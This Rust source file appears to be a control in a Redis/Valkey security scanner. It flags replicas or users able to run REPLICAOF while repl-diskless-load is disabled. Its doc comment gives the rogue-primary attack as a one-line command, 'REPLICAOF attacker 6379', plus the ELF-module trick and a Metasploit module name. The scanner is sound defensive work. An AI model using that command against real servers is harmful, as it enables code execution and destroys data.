//! REPL-008.

use redan_model::{Evidence, Server, Severity};

use crate::control;
use crate::control::Context;
use crate::outcome::{Failure, Outcome};
use crate::support::{data_server, evidence, setting, users};

control! {
    /// A node that can be made a replica loads the data of its primary without writing them to disk
    /// first (`repl-diskless-load swapdb` or `on-empty-db`). Where no user may run `REPLICAOF` and no
    /// primary is configured, the control passes. High for replicas, else medium.
    ///
    /// # Why
    /// With the default `disabled` the bytes that a primary sends become `dump.rdb` before anybody
    /// looks at them. That is how a rogue primary places a file of its choice, and how the last good
    /// dump is lost.
    ///
    /// # Attack
    /// `REPLICAOF attacker 6379`; the attacker sends an ELF module as "dump". On Redis 7.0 and 8.2
    /// the old data is gone as well. `swapdb` prevented both on every server that was tried.
    ///
    /// # Fix
    /// `repl-diskless-load swapdb` (needs memory for two copies while loading), or `on-empty-db`; and
    /// deny `REPLICAOF` and `SLAVEOF` to everybody but an operator.
    ///
    /// # Sources
    /// - seen on Redis 7.0.15, Redis 8.2.3 and Valkey 9.1.2
    /// - Metasploit module `exploits/linux/redis/redis_replication_cmd_exec`
    "REPL-008", "dump-from-rogue-primary";
    title: "A rogue primary can replace the dump on disk",
    severity: High, aspect: Replication,
    owasp: ["A08:2021"], iso27001: ["A.8.7", "A.8.9"], pci: ["2.2.1"], nist_csf: ["PR.PS-01", "PR.DS-10"], ley1581: [],
    consequence_of: ["AUTH-001", "CMD-013"],
    check: Server(check),
}

fn check(server: &Server, context: &Context<'_>) -> Result<Outcome, Outcome> {
    data_server(server)?;
    let load = setting(server, "repl-diskless-load")?;
    if load.text() != "disabled" || server.is_cluster() {
        return Ok(if server.is_cluster() { Outcome::NotApplicable } else { Outcome::Pass });
    }
    let failure = |message: String| {
        Failure::new("repl-diskless-load", message)
            .with(evidence("repl-diskless-load", load, context))
            .remedy("`repl-diskless-load swapdb`")
    };
    if server.is_replica() {
        let message = "what the primary sends becomes the dump on disk before it is checked";
        return Ok(failure(message.into()).into());
    }
    let able: Vec<&str> = users(server)?
        .iter()
        .filter(|user| {
            ["replicaof", "slaveof"].iter().any(|name| user.can_run(name, server.release))
        })
        .map(|user| user.name.as_str())
        .collect();
    if able.is_empty() {
        return Ok(Outcome::Pass);
    }
    let message =
        format!("REPLICAOF by {} replaces the dump on disk with foreign bytes", able.join(", "));
    Ok(failure(message)
        .with(Evidence::implied("ACL rules of these users allow REPLICAOF or SLAVEOF"))
        .severity(Severity::Medium)
        .into())
}
